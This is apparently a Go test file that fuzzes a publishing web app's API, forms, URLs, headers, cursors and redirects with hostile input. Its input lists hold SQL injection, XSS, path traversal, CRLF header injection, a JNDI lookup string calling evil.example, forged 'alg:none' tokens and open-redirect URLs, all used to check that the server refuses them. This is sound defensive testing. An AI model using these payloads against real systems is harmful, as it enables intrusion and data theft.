package handlers

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// fields lists what each endpoint reads from a JSON body, by type: s a string,
// i a whole number, S and I lists of them.
var fields = map[string]map[string]string{
	"POST /api/v1/users":            {"username": "s", "email": "s", "password": "s"},
	"POST /api/v1/sessions":         {"login": "s", "password": "s"},
	"POST /api/v1/sessions/refresh": {"refresh_token": "s"},
	"PATCH /api/v1/me":              {"display_name": "s", "bio": "s", "email": "s", "new_password": "s", "current_password": "s"},
	"POST /api/v1/articles": {"title": "s", "standfirst": "s", "body": "s", "slug": "s", "message": "s", "state": "s", "comment_policy": "s", "publish_at": "s",
		"closes_after_days": "i", "tags": "S"},
	"PATCH /api/v1/articles/:slug": {"title": "s", "standfirst": "s", "body": "s", "slug": "s", "message": "s", "state": "s", "comment_policy": "s", "publish_at": "s",
		"closes_after_days": "i", "tags": "S"},
	"POST /api/v1/articles/:slug/comments": {"body": "s", "parent_id": "i"},
	"PATCH /api/v1/comments/:id":           {"body": "s"},
	"PUT /api/v1/comments/:id/vote":        {"value": "i"},
	"POST /api/v1/comments/:id/reports":    {"reason": "s", "note": "s"},
	"POST /api/v1/moderation/decisions":    {"comment_ids": "I", "decision": "s", "reason": "s"},
}

// readsNothing are routes that take a body and look at nothing in it.
var readsNothing = []string{"POST /api/v1/articles/:slug/revisions/:number/restore", "POST /api/v1/moderation/decisions/:id/undo"}

// nasty are texts that have broken something somewhere.
var nasty = []string{"", " ", "\x00", "a\x00b", "\r\nSet-Cookie: postil=evil", "' OR '1'='1", `"; DROP TABLE users; --`, "1) UNION SELECT password_hash FROM users --", "%", "_%\\", `\`, "%27", "%00",
	"../../../etc/passwd", "..%2f..%2f", "//evil.example", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "{{.Site}}", "${jndi:ldap://evil.example}", "\u202egnp.exe", "\u200b",
	strings.Repeat("a", 20_000), strings.Repeat("e\u0301\u0316", 4_000), strings.Repeat("\U0001d49c", 300), "1e999", "NaN", "-1", "0", "9223372036854775808", "null", "[]", "\ufeff", "\u2028\u2029",
	"admin", "me", "new", "current", "*", "2026-02-30T25:61:00Z", "0001-01-01T00:00:00Z", "=cmd|'/c calc'!A1", "ſelf", "İ"}

// TestHostileJSON sends each endpoint everything but what it asks for.
func TestHostileJSON(t *testing.T) {
	w := newWorld(t)
	for _, r := range w.everyRoute() {
		name := r.method + " " + r.path
		if !strings.HasPrefix(r.path, apiPrefix+"/") || r.size == 0 || slices.Contains(readsNothing, name) {
			continue
		}
		known, listed := fields[name]
		if !listed {
			t.Errorf("%s reads a body; list its fields", name)
			continue
		}
		about := "published"
		if strings.Contains(r.path, ":id") {
			about = "admin's"
		}
		path := w.address(r.path, about, "adam")
		send := func(body string, header ...string) *response {
			who := w.people["adam"].api.with("If-Match", "*")
			for i := 0; i < len(header); i += 2 {
				who = who.with(header[i], header[i+1])
			}
			return who.do(r.method, path, body)
		}
		refused := func(what string, status int, res *response) {
			t.Helper()
			if p := res.problem(); res.status != status || len(p.Detail) < 10 || p.RequestID == "" {
				t.Errorf("%s with %s: %d, want %d and a reason: %.300s", name, what, res.status, status, res.body)
			}
		}
		valid := func(field string, value any) string {
			body := object{}
			switch b := deeds[name](w, about).(type) {
			case object:
				for k, v := range b {
					body[k] = v
				}
			case twoFaced:
				for k, v := range b.json {
					body[k] = v
				}
			}
			body[field] = value
			text, _ := json.Marshal(body)
			return string(text)
		}
		raw := func(field, value string) string {
			return strings.Replace(valid(field, "HERE"), `"HERE"`, value, 1)
		}
		field := sortedNames(known)[0]
		for _, body := range []string{"", " ", "null", "true", "7", `"text"`, "[]", "[{}]", "{", "}", "{}{}", "{} x", `{"a"}`, `{a:1}`, "\ufeff{}", "{'a':1}", "{}\x00", "\xff\xfe{\x00}\x00",
			raw(field, `"\u12"`), raw(field, `"a`+"\n"+`b"`), raw(field, "\"\xff\""), raw(field, "01"), raw(field, "NaN"), raw(field, "+1"), raw(field, "0x10"), raw(field, "'a'"),
			strings.Repeat(`{"a":`, 40) + "1" + strings.Repeat("}", 40), strings.Repeat("[", 60_000), raw(field, strings.Repeat("[", 100)+strings.Repeat("]", 100)),
			valid("surprise", 1), valid("role", "admin"), valid("id", 1), valid("author_id", 1), valid("__proto__", object{}), valid("", 1),
			`{"` + field + `":null,"` + field + `":null}`, `{"` + field + `":null,"` + strings.ToUpper(field) + `":null}`, `{"` + field + `":null,"` + strings.ReplaceAll(field, "s", "ſ") + `x":null}`} {
			refused(fmt.Sprintf("%.60q", body), 400, send(body))
		}
		if strings.ContainsAny(field, "sk") {
			folded := strings.NewReplacer("s", "ſ", "k", "\u212a").Replace(field)
			refused("a folded name twice", 400, send(`{"`+field+`":null,"`+folded+`":null}`))
		}
		for _, mediaType := range []string{"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonx", "application/json, text/plain", "a/b/c", ";", "application/xml", "application/json; charset"} {
			if res := send("{}", "Content-Type", mediaType); mediaType != "" { // the client fills in what is missing
				refused("the type "+mediaType, 415, res)
			}
		}
		for _, encoding := range []string{"gzip", "br", "identity, gzip", "chunked"} {
			refused("the encoding "+encoding, 415, send("{}", "Content-Encoding", encoding))
		}
		refused("5 MB", 413, send(`{"`+field+`":"`+strings.Repeat("x", 5<<20)+`"}`))
		for field, kind := range known {
			wrong := []string{"true", "{}", `{"a":[]}`, `[{}]`, `[[1]]`, "[null,{}]"}
			switch kind {
			case "s":
				wrong = append(wrong, "7", "[]", `["a"]`, "1e400", "-0.0")
			case "i":
				wrong = append(wrong, `"7"`, "[]", "1.5", "1e2", "1e400", "99999999999999999999", "-99999999999999999999", `"1"`)
			case "S":
				wrong = append(wrong, "7", `"a,b"`, "[1]", `["a",1]`)
			case "I":
				wrong = append(wrong, "7", `"7"`, `["7"]`, "[1.5]", "[1e400]", "[99999999999999999999]")
			}
			for _, value := range wrong {
				refused(field+" = "+value, 400, send(raw(field, value)))
			}
			for _, text := range nasty {
				value := any(text)
				if kind == "S" {
					value = []string{text}
				}
				if kind == "i" || kind == "I" {
					continue
				}
				if res := send(valid(field, value)); res.status >= 500 || res.status >= 400 && res.problem().Detail == "" {
					t.Errorf("%s with %s = %.40q: %d %s", name, field, text, res.status, shortened(res.body))
				}
			}
			for _, n := range []string{"-1", "0", "2147483648", "9223372036854775807", "-9223372036854775808"} {
				value := n
				if kind == "I" {
					value = "[" + n + "]"
				}
				if kind != "i" && kind != "I" {
					continue
				}
				if res := send(raw(field, value)); field != "closes_after_days" && (res.status < 400 || res.status >= 500) && !(name == "PUT /api/v1/comments/:id/vote" && n == "-1") {
					t.Errorf("%s with %s = %s: %d", name, field, n, res.status)
				}
			}
			if kind == "s" {
				if res := send(valid(field, strings.Repeat("x", 1<<20))); res.status != 413 && res.status != 422 && res.status != 401 && (field != "publish_at" || res.status != 400) {
					t.Errorf("%s with 1 MB of %s: %d", name, field, res.status)
				}
				if res := send(raw(field, `"\ud800"`)); res.status >= 500 {
					t.Errorf("%s with half a character in %s: %d", name, field, res.status)
				}
			}
		}
		w.restore()
	}
	w.quietLog()
}

// pageForms lists what people type into the forms of pages, with which the form
// is refused.
var pageForms = map[string]struct {
	typed   []string // fields with text
	rest    []string // pairs
	secrets []string // never shown again
}{
	"POST /articles/:slug/comments": {typed: []string{"body"}},
	"POST /comments/:id/edit":       {typed: []string{"body"}},
	"POST /comments/:id/report":     {typed: []string{"note"}, rest: []string{"reason", "spam"}},
	"POST /preview":                 {typed: []string{"body"}},
	"POST /register":                {typed: []string{"username", "email"}, secrets: []string{"password"}},
	"POST /login":                   {typed: []string{"login"}, secrets: []string{"password"}},
	"POST /setup":                   {typed: []string{"username", "email"}, rest: []string{"token", "setup_wrong"}, secrets: []string{"password"}},
	"POST /account/profile":         {typed: []string{"display_name", "bio", "email"}, secrets: []string{"current_password"}},
	"POST /account/password":        {secrets: []string{"current_password", "new_password"}},
	"POST /desk/:slug": {typed: []string{"title", "standfirst", "body", "slug", "tags", "publish_at", "message"},
		rest: []string{"state", "draft", "comment_policy", "open", "revision", "1", "closes_after_days", "0"}},
	"POST /moderation/decisions":          {typed: []string{"reason_text"}, rest: []string{"decision", "reject", "comment_ids", "1"}},
	"POST /admin/users/:username/suspend": {typed: []string{"reason"}, rest: []string{"days", "1"}},
}

// noText are forms without anything to type.
var noText = []string{"POST /articles/:slug/revisions/:number/restore", "POST /comments/:id/delete", "POST /comments/:id/vote", "POST /logout", "POST /account/sessions/end-others",
	"POST /account/sessions/:id/end", "POST /desk/:slug/delete", "POST /moderation/decisions/:id/undo", "POST /admin/users/:username/role", "POST /admin/users/:username/unsuspend"}

// TestFormsComeBack sends every form in a way that is refused, and looks for
// what was typed in the answer, as text. It does so with a session that ended
// while somebody wrote, from an account that may not, and with a fault in the
// text itself.
func TestFormsComeBack(t *testing.T) {
	w := newWorld(t)
	for _, r := range w.everyRoute() {
		name := r.method + " " + r.path
		if r.method != "POST" || strings.HasPrefix(r.path, apiPrefix+"/") || slices.Contains(noText, name) {
			continue
		}
		form, listed := pageForms[name]
		if !listed {
			t.Errorf("%s is a form: list what is typed into it", name)
			continue
		}
		for _, viewer := range []string{"zoe", "nobody", "sten", "adam"} {
			about := "published"
			switch {
			case name == "POST /preview" && (viewer == "sten" || viewer == "adam"):
				continue // a fragment for the script; the text stays where it was typed
			case strings.HasPrefix(r.path, "/desk/"):
				about = "draft"
			case strings.Contains(r.path, "/comments/:id"):
				about = "approved"
			case strings.Contains(r.path, ":username"):
				about = "missing"
			}
			values, words := url.Values{}, map[string]string{}
			for i := 0; i < len(form.rest); i += 2 {
				values.Set(form.rest[i], form.rest[i+1])
			}
			for i, field := range form.typed {
				words[field] = fmt.Sprintf("<b>typed & %d\"'</b>\x00", i) // NUL makes the Store refuse it
				values.Set(field, words[field])
			}
			for i, field := range form.secrets {
				values.Set(field, fmt.Sprintf("a long secret %d", i))
			}
			res := w.people[viewer].page.post(w.address(r.path, about, viewer), values)
			if len(form.typed) == 0 && res.status == 303 {
				continue
			}
			if res.status < 400 || res.status >= 500 {
				t.Errorf("%s as %s: %d, want a refusal", name, viewer, res.status)
				continue
			}
			text, shown := pageText(t, res.body), string(res.body)
			for field, word := range words {
				visible := strings.TrimSuffix(word, "\x00")
				if !strings.Contains(text, visible) {
					t.Errorf("%s as %s: %d, and what was typed into %s is lost", name, viewer, res.status, field)
				}
				if strings.Contains(shown, visible) {
					t.Errorf("%s as %s gives %s back without escaping it", name, viewer, field)
				}
			}
			for _, field := range form.secrets {
				if strings.Contains(text, values.Get(field)) {
					t.Errorf("%s as %s shows %s again", name, viewer, field)
				}
			}
		}
	}
	w.quietLog()
}

// pageText is every text and attribute of a page, as a browser reads them.
func pageText(t *testing.T, page []byte) string {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for n := range root.Descendants() {
		if n.Type == html.TextNode {
			text.WriteString(n.Data + "\n")
		}
		for _, a := range n.Attr {
			text.WriteString(a.Val + "\n")
		}
	}
	return text.String()
}

// TestHostileForms types every nasty text into every field of every form.
func TestHostileForms(t *testing.T) {
	w := newWorld(t)
	for _, r := range w.everyRoute() {
		name := r.method + " " + r.path
		if r.method != "POST" || strings.HasPrefix(r.path, apiPrefix+"/") {
			continue
		}
		about := "published"
		switch {
		case strings.Contains(r.path, "/comments/:id"):
			about = "approved"
		case strings.Contains(r.path, ":id"):
			about = "done"
		case strings.Contains(r.path, ":username"):
			about = "sten"
		}
		make, known := deeds[name]
		if !known {
			t.Errorf("%s is not in deeds", name)
			continue
		}
		body := make(w, about)
		if both, ok := body.(twoFaced); ok {
			body = both.form
		}
		names := append(sortedNames(body.(url.Values)), pageForms[name].typed...)
		if len(names) > 0 {
			names = append(names, "next", "return_state", "parent_id", "action")
		}
		slices.Sort(names)
		for _, field := range slices.Compact(names) {
			for _, text := range append(nasty, "\xff\xfe", "%zz") {
				values := url.Values{}
				for k, v := range body.(url.Values) {
					values[k] = v
				}
				values.Set(field, text)
				res := w.people["adam"].page.post(w.address(r.path, about, "adam"), values)
				if res.status >= 500 {
					t.Errorf("%s with %s = %.40q: %d", name, field, text, res.status)
				}
				if at := res.header.Get("Location"); at != "" && !isLocal(at) {
					t.Errorf("%s with %s = %.40q leads to %q", name, field, text, at)
				}
				if len(res.header.Values("Set-Cookie")) > 0 || res.status == 303 && strings.HasPrefix(r.path, "/account") {
					w.restore()
					w.forget("adam")
				}
			}
		}
		for what, res := range map[string]*response{
			"a broken escape":     w.people["adam"].page.with("Content-Type", "application/x-www-form-urlencoded").post(w.address(r.path, about, "adam"), "body=%zz&title=%"),
			"a broken multipart":  w.people["adam"].page.with("Content-Type", "multipart/form-data; boundary=x").post(w.address(r.path, about, "adam"), "--x\r\nContent-Disposition: form-data"),
			"no boundary":         w.people["adam"].page.with("Content-Type", "multipart/form-data").post(w.address(r.path, about, "adam"), "--x\r\n"),
			"JSON":                w.people["adam"].page.post(w.address(r.path, about, "adam"), object{"body": "a"}),
			"5 MB":                w.people["adam"].page.post(w.address(r.path, about, "adam"), url.Values{"body": {strings.Repeat("x", 5<<20)}}),
			"a file":              w.people["adam"].page.with("Content-Type", "multipart/form-data; boundary=x").post(w.address(r.path, about, "adam"), "--x\r\nContent-Disposition: form-data; name=\"body\"; filename=\"../../x\"\r\nContent-Type: text/html\r\n\r\n<b>\r\n--x--\r\n"),
			"a million fields":    w.people["adam"].page.with("Content-Type", "application/x-www-form-urlencoded").post(w.address(r.path, about, "adam"), strings.Repeat("a&", 30_000)),
			"semicolons":          w.people["adam"].page.with("Content-Type", "application/x-www-form-urlencoded").post(w.address(r.path, about, "adam"), "a=b;c=d"),
			"a compressed body":   w.people["adam"].page.with("Content-Type", "application/x-www-form-urlencoded").with("Content-Encoding", "gzip").post(w.address(r.path, about, "adam"), "\x1f\x8b\x08\x00"),
			"another charset":     w.people["adam"].page.with("Content-Type", "application/x-www-form-urlencoded; charset=utf-7").post(w.address(r.path, about, "adam"), "body=+ADw-script+AD4-"),
			"an unknown encoding": w.people["adam"].page.with("Content-Type", "application/x-www-form-urlencoded").with("Transfer-Encoding", "cow").post(w.address(r.path, about, "adam"), "body=a"),
		} {
			if res.status >= 500 {
				t.Errorf("%s with %s: %d", name, what, res.status)
			}
			w.restore()
			w.forget("adam")
		}
	}
	w.quietLog()
}

// leaks are words that only the inside of the program says.
var leaks = []string{"SQL", "sqlite", "no such column", "no such table", "constraint failed", "gorm", "goroutine", "runtime.", ".go:", "/root/", "/tmp/", "models.", "strconv", "json:", "reflect"}

// TestHostileAddresses puts every nasty text into every parameter of every path
// and query.
func TestHostileAddresses(t *testing.T) {
	w := newWorld(t)
	before := w.state()
	check := func(viewer, method, path string) *response {
		t.Helper()
		res := w.as(viewer, path).do(method, path, nil)
		if res.status >= 500 {
			t.Errorf("%.200s as %s: %d", res.what, viewer, res.status)
		}
		if strings.HasPrefix(res.header.Get("Content-Type"), "application/problem+json") {
			detail := res.problem().Detail
			for _, word := range leaks {
				if strings.Contains(detail, word) {
					t.Errorf("%.200s as %s tells %q: %s", res.what, viewer, word, detail)
				}
			}
		}
		for name, values := range res.header {
			if strings.Contains(strings.Join(values, " "), "postil=evil") && name != "Location" {
				t.Errorf("%.200s as %s: the header %s holds what was asked: %q", res.what, viewer, name, values)
			}
		}
		return res
	}
	segments := []string{"%00", "a%00b", "%2f", "%2F..%2F", "%2e%2e", "%252e%252e%252f", "..", ".", "%5c..%5c", "%ff", "%c0%af", "%e2%80%ae", "%F0%9F%92%A9", "%0d%0aSet-Cookie:%20postil=evil",
		"-1", "0", "007", "1e3", "0x10", "1.0", "+1", "%2b1", "%201", "1%20", "99999999999999999999", "9223372036854775807", "new", "current", "me", "@adam", "%40adam", "ADAM", "%3Cscript%3E", "%27%20OR%201=1--",
		"0%20OR%20secret%20LIKE%20%27a%25%27", "%25", "_", "a;b", "a:b", "*", "published-article%20", "PUBLISHED-ARTICLE", strings.Repeat("a", 8_000), strings.Repeat("%F0%9F%92%A9", 1_000)}
	for _, r := range w.everyRoute() {
		if !strings.Contains(r.path, "/:") {
			continue
		}
		for _, segment := range segments {
			path := w.address(r.path, "published", "adam")
			for _, part := range []string{"published-article", "published", "987654321"} {
				if strings.Contains(path, part) {
					path = strings.Replace(path, part, segment, 1)
					break
				}
			}
			for _, viewer := range []string{"nobody", "adam"} {
				res := check(viewer, "GET", path)
				if res.status < 300 && !slices.Contains([]string{"new", "me", "@adam", "%40adam", "ADAM", "a%00b"}, segment) {
					t.Errorf("GET %.200s as %s: %d for %.60q", path, viewer, res.status, segment)
				}
			}
		}
	}
	parameters := []string{"cursor", "limit", "sort", "tag", "author", "mine", "state", "q", "role", "at", "from", "to", "next", "token", "saved", "reply", "reported", "id", "order", "where"}
	for _, r := range w.everyRoute() {
		if r.method != "GET" {
			continue
		}
		about := "published"
		switch {
		case strings.Contains(r.path, ":id"):
			about = "approved"
		case strings.Contains(r.path, ":username"):
			about = "adam"
		}
		blank := func(res *response) string {
			return requestID.ReplaceAllString(fmt.Sprint(res.status, string(res.body)), "")
		}
		plain := blank(check("adam", "GET", w.address(r.path, about, "adam")))
		for _, parameter := range parameters {
			texts := append(nasty, "\xff", "a\xc0\xafb")
			ignored := blank(check("adam", "GET", w.address(r.path, about, "adam")+"?"+parameter+"=zzz")) == plain &&
				blank(check("adam", "GET", w.address(r.path, about, "adam")+"?"+parameter+"=987654321")) == plain
			if ignored { // it reads no such parameter
				texts = texts[:3]
			}
			for _, text := range texts {
				check("adam", "GET", w.address(r.path, about, "adam")+"?"+parameter+"="+url.QueryEscape(text))
			}
		}
		check("adam", "GET", w.address(r.path, about, "adam")+"?cursor=%zz&a;b&&&=&=%00")
		check("adam", "GET", w.address(r.path, about, "adam")+"?"+strings.Repeat("limit=1&", 2_000))
	}
	for _, path := range []string{"//", "///", "//evil.example/", "/./", "/../", "/%2e%2e/%2e%2e/etc/passwd", "/static/%2e%2e%2f%2e%2e%2fgo.mod", "/static/..%2frobots.txt", "/static//etc/passwd", "/static/%00",
		"/static/css", "/STATIC/x", "/api", "/api/", "/api/v1", "/api/v1/", "/api/v2/articles", "/API/V1/articles", "/%61pi/v1/articles", "/api//v1/articles", "/api/v1//articles", "/api/v1/articles;x=1",
		"/api/v1/articles/", "/index.php", "/wp-admin/", "/.env", "/.git/HEAD", "/debug/vars", "/metrics", "/favicon.ico", "/\u202e", "/" + strings.Repeat("a/", 3_000), "/?" + strings.Repeat("a", 9_000)} {
		for _, viewer := range []string{"nobody", "adam"} {
			for _, method := range []string{"GET", "HEAD", "POST", "OPTIONS"} {
				check(viewer, method, path)
			}
		}
	}
	if w.state() != before {
		t.Error("an address changed something")
	}
	w.quietLog()
}

// TestLists holds every list to its limits and cursors.
func TestHostileLists(t *testing.T) {
	w := newWorld(t)
	cursors := map[string]string{}
	lists := []string{"/api/v1/articles", "/api/v1/articles?mine=true", "/api/v1/articles/published-article/revisions", "/api/v1/articles/published-article/comments?sort=best",
		"/api/v1/articles/published-article/comments?sort=newest", "/api/v1/articles/published-article/comments?sort=oldest", "/api/v1/moderation/queue?state=pending", "/api/v1/moderation/log",
		fmt.Sprintf("/api/v1/comments/%d/replies", w.comments["deleted"])}
	adam := w.people["adam"].api
	join := func(path, query string) string {
		if strings.Contains(path, "?") {
			return path + "&" + query
		}
		return path + "?" + query
	}
	w.article(w.people["anna"].api, having("title", "Another"))
	w.article(w.people["anna"].api, having("title", "And another"))
	for _, path := range lists {
		if next, ok := adam.get(join(path, "limit=1")).is(200).at("next_cursor").(string); ok {
			cursors[path] = next
		}
		for _, limit := range []string{"0", "-1", "1.5", "x", "1e2", "0x10", "99999999999999999999", "-9223372036854775809", "%20", "1%00", "NaN"} {
			if res := adam.get(join(path, "limit="+limit)); res.status != 400 {
				t.Errorf("%s with limit %s: %d, not 400", path, limit, res.status)
			}
		}
		for _, limit := range []string{"1", "100", "101", "2147483647"} {
			adam.get(join(path, "limit="+limit)).is(200)
		}
	}
	if len(cursors) < 6 {
		t.Fatalf("only %d lists have a second page", len(cursors))
	}
	encode := base64.RawURLEncoding.EncodeToString
	junk := []string{"x", "....", "AAAA", strings.Repeat("A", 5_000), encode([]byte("articles")), encode([]byte("articles.1")), encode([]byte("articles.1.2.3")), encode([]byte("articles.01.2")),
		encode([]byte("articles.-1.zzzzzzzzzzzzzzzzzz")), encode([]byte("articles.1.2\x00")), encode([]byte("revisions.1 OR 1=1")), encode([]byte("log.-0")), encode([]byte{0xff, 0xfe}), "eyJhbGciOiJub25lIn0", "' OR 1=1"}
	for _, path := range lists {
		for _, cursor := range junk {
			if res := adam.get(join(path, "cursor="+url.QueryEscape(cursor))); res.status != 422 || res.field("cursor") == "" {
				t.Errorf("%s with the cursor %.40q: %d, not 422", path, cursor, res.status)
			}
		}
		for from, cursor := range cursors {
			mine, theirs := strings.TrimSuffix(path, "?mine=true"), strings.TrimSuffix(from, "?mine=true")
			if res := adam.get(join(path, "cursor="+cursor)); mine != theirs && res.status != 422 {
				t.Errorf("%s took a cursor of %s: %d", path, from, res.status)
			}
		}
		// Numbers that are no dates, ranks or ids point somewhere and do no harm.
		for _, kind := range []string{"articles.-1y2p0ij32e8e8.-1y2p0ij32e8e8", "best.1y2p0ij32e8e7.0", "best.-1.-1", "newest.-1", "oldest.1y2p0ij32e8e7", "revisions.-5", "queue.-1", "log.0", "replies.-1"} {
			if res := adam.get(join(path, "cursor="+encode([]byte(kind)))); res.status != 200 && res.status != 422 {
				t.Errorf("%s with the cursor %s: %d", path, kind, res.status)
			}
		}
	}
	w.quietLog()
}

// TestHostileHeaders sends headers that try to be somebody or somewhere else.
func TestHostileHeaders(t *testing.T) {
	w := newWorld(t)
	token := w.people["adam"].api.signed.AccessToken
	parts := strings.Split(token, ".")
	part := func(text string) string { return base64.RawURLEncoding.EncodeToString([]byte(text)) }
	forged := []string{"", "x", "Bearer", "Bearer ", "Bearer  " + token, "Bearer " + token + "x", "Bearer " + token + " ", "Bearer " + token + "\n", "Basic YWRhbTphZGFt", "Token " + token, token, "Bearer null",
		"Bearer " + parts[0] + "." + parts[1] + ".", "Bearer " + parts[0] + "." + parts[1], "Bearer " + part(`{"alg":"none","typ":"at+jwt"}`) + "." + parts[1] + ".",
		"Bearer " + part(`{"alg":"None","typ":"at+jwt"}`) + "." + parts[1] + "." + parts[2], "Bearer " + part(`{"alg":"RS256","kid":"../../dev/null"}`) + "." + parts[1] + "." + parts[2],
		"Bearer " + parts[0] + "." + part(`{"sub":"1"}`) + "." + parts[2], "Bearer ..", "Bearer " + strings.Repeat("A", 100_000), "Bearer " + w.people["adam"].api.signed.RefreshToken,
		"Bearer " + w.people["adam"].page.jar.Cookies(w.site())[0].Value, "Bearer " + w.people["adam"].session, "Bearer \x00", "Digest username=adam"}
	for _, value := range forged {
		who := w.anyone()
		who.header["Authorization"] = []string{value}
		if res := who.get("/api/v1/me"); res.status != 401 || res.header.Get("WWW-Authenticate") == "" {
			t.Errorf("Authorization %.80q: %d, not 401", value, res.status)
		}
		if res := who.get("/admin/users"); res.status != 401 && res.status != 303 {
			t.Errorf("Authorization %.80q opens /admin/users: %d", value, res.status)
		}
	}
	// The cookie of a browser is no bearer's token, and a program's is no cookie.
	for _, cookie := range []string{"postil=", "postil=x", "postil=\x00", "postil=" + token, "postil=" + w.people["adam"].api.signed.RefreshToken, "postil=" + w.people["adam"].session, "postil=" + strings.Repeat("a", 50_000),
		"postil", "=postil", "postil=a; postil=b", "__Host-postil=" + w.people["adam"].page.jar.Cookies(w.site())[0].Value, "POSTIL=" + w.people["adam"].page.jar.Cookies(w.site())[0].Value, strings.Repeat("a=b; ", 5_000)} {
		who := w.anyone().with("Cookie", cookie)
		who.get("/").is(200).has("Sign in")
		if res := who.get("/api/v1/me"); res.status != 401 {
			t.Errorf("Cookie %.60q: %d, not 401", cookie, res.status)
		}
	}
	// A method in a header or a field is not the method.
	for _, header := range []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"} {
		w.people["rita"].api.with(header, "DELETE").get(fmt.Sprintf("/api/v1/comments/%d", w.comments["approved"])).is(200)
		w.people["rita"].page.with(header, "GET").post(fmt.Sprintf("/comments/%d?_method=DELETE", w.comments["approved"]), url.Values{"_method": {"DELETE"}}).is(405)
		w.people["rita"].api.get(fmt.Sprintf("/api/v1/comments/%d", w.comments["approved"])).is(200).has(`"approved"`)
	}
	for _, value := range []string{`x`, `"`, `""`, `"-1"`, `"0"`, `"1`, `"99999999999999999999"`, `"1","5"`, `"1", *`, `*, "5"`, `W/`, `W/"`, "\x00", `"5" x`, `'5'`, strings.Repeat(`"1",`, 5_000)} {
		if res := w.people["anna"].api.with("If-Match", value).patch("/api/v1/articles/published-article", object{"title": "Overwritten"}); res.status != 412 {
			t.Errorf("If-Match %.60q: %d, not 412", value, res.status)
		}
	}
	w.people["anna"].api.patch("/api/v1/articles/published-article", object{"title": "Overwritten"}).is(428)
	w.quietLog()
}

// TestHostHeadersAreNotBelieved asks for every page under another name.
func TestHostHeadersAreNotBelieved(t *testing.T) {
	w := newWorld(t)
	for _, viewer := range []string{"nobody", "adam"} {
		for _, address := range w.seeds(viewer) {
			who := w.as(viewer, strings.Split(address, "?")[0])
			for name, value := range map[string]string{"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "evil", "X-Forwarded-Prefix": "/evil.example", "X-Forwarded-For": "198.18.66.66", "X-Real-Ip": "198.18.66.66",
				"Forwarded": "for=198.18.66.66;host=evil.example", "X-Original-Url": "/admin/users", "X-Rewrite-Url": "/admin/users", "X-Host": "evil.example", "Referer": "https://evil.example/", "X-Forwarded-Server": "evil.example"} {
				who = who.with(name, value)
			}
			res := who.doAt("evil.example", "GET", address)
			if answer := fmt.Sprint(res.header, string(res.body)); strings.Contains(answer, "evil") || strings.Contains(answer, "198.18.66.66") {
				t.Errorf("%s as %s repeats a header of the request: %.300s", res.what, viewer, answer[max(0, strings.Index(answer, "evil")-100):])
			}
		}
	}
	w.people["sten"].page.with("X-Forwarded-For", "198.18.66.66").with("X-Real-Ip", "198.18.66.66").signInAs("sten").get("/account").is(200).hasNot("198.18.66.66")
}

// doAt sends a request whose Host header names another site.
func (c *client) doAt(host, method, path string) *response {
	c = c.copy()
	c.host = host
	return c.do(method, path, nil)
}

// isLocal tells whether a browser that is sent to an address stays on this site.
func isLocal(address string) bool {
	if strings.ContainsAny(address, "\\\r\n\t\x00") || !strings.HasPrefix(address, "/") || strings.HasPrefix(address, "//") {
		return false
	}
	base, _ := url.Parse("http://postil.test/login")
	to, err := base.Parse(address)
	return err == nil && to.Host == "postil.test" && to.Scheme == "http" && to.User == nil
}

// elsewhere are addresses that have led browsers to another site.
var elsewhere = []string{"https://evil.example", "http://evil.example/", "HTTPS://EVIL.EXAMPLE", "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\\/evil.example",
	"//\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "https:\\\\evil.example", "http:evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
	"vbscript:x", "mailto:a@evil.example", "ftp://evil.example", "file:///etc/passwd", "evil.example", "www.evil.example/", "@evil.example", "/@evil.example/..//evil.example", "https://postil.test@evil.example", "https://postil.test.evil.example",
	"http://postil.test:80@evil.example/", "//postil.test@evil.example", "/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "\t//evil.example", "\n//evil.example", " //evil.example", "\x00//evil.example", "/\x00/evil.example", "/%09/evil.example",
	"/%2f%2fevil.example", "/%5cevil.example", "%2f%2fevil.example", "/.//evil.example", "/..//evil.example", "/./\\evil.example", "/a/..//evil.example", "/a/../..//evil.example", "//evil.example%2f..", "//evil%00.example", "//evil。example", "/\u2028/evil.example",
	"//[::1]/", "http://[::ffff:127.0.0.1]/", "?next=//evil.example", "#//evil.example", ".//evil.example", "..//evil.example", "/;//evil.example", "/\u00a0/evil.example", "\u00a0//evil.example", "/\r\nLocation: https://evil.example", "/%0d%0aSet-Cookie:a=b", "//\u0000evil.example",
	"/?//evil.example", "/#//evil.example", "/login?next=//evil.example", "https://evil.example\\@postil.test", "/\x0b/evil.example", "/\x7f/evil.example"}

// TestNoOpenRedirect goes through the doors with another site for a destination.
func TestNoOpenRedirect(t *testing.T) {
	s := newServer(t)
	signedIn := s.browser("reader", "rita")
	for i, next := range elsewhere {
		for what, res := range map[string]*response{
			"GET /login when signed in": signedIn.get("/login?next=" + url.QueryEscape(next)),
			"GET /register":             s.visitor().get("/register?next=" + url.QueryEscape(next)),
			"GET /login":                s.visitor().get("/login?next=" + url.QueryEscape(next)),
			"POST /login":               s.visitor().post("/login", url.Values{"login": {"rita"}, "password": {signedIn.password}, "next": {next}}),
			"POST /login, wrong":        s.visitor().from(fmt.Sprintf("198.51.100.%d", i)).post("/login", url.Values{"login": {"nobody"}, "password": {"x"}, "next": {next}}),
			"POST /register": s.visitor().post("/register", url.Values{"username": {fmt.Sprintf("new%d", i)}, "email": {fmt.Sprintf("n%d@example.org", i)},
				"password": {"a quite long new password"}, "next": {next}}),
		} {
			if res.status >= 500 {
				t.Errorf("%s with next=%q: %d", what, next, res.status)
			}
			if strings.HasPrefix(what, "POST") && !strings.HasSuffix(what, "wrong") && res.status != http.StatusSeeOther {
				t.Errorf("%s with next=%q: %d", what, next, res.status)
			}
			if at := res.header.Get("Location"); res.status == http.StatusSeeOther && !isLocal(at) {
				t.Errorf("%s with next=%q leads to %q", what, next, at)
			}
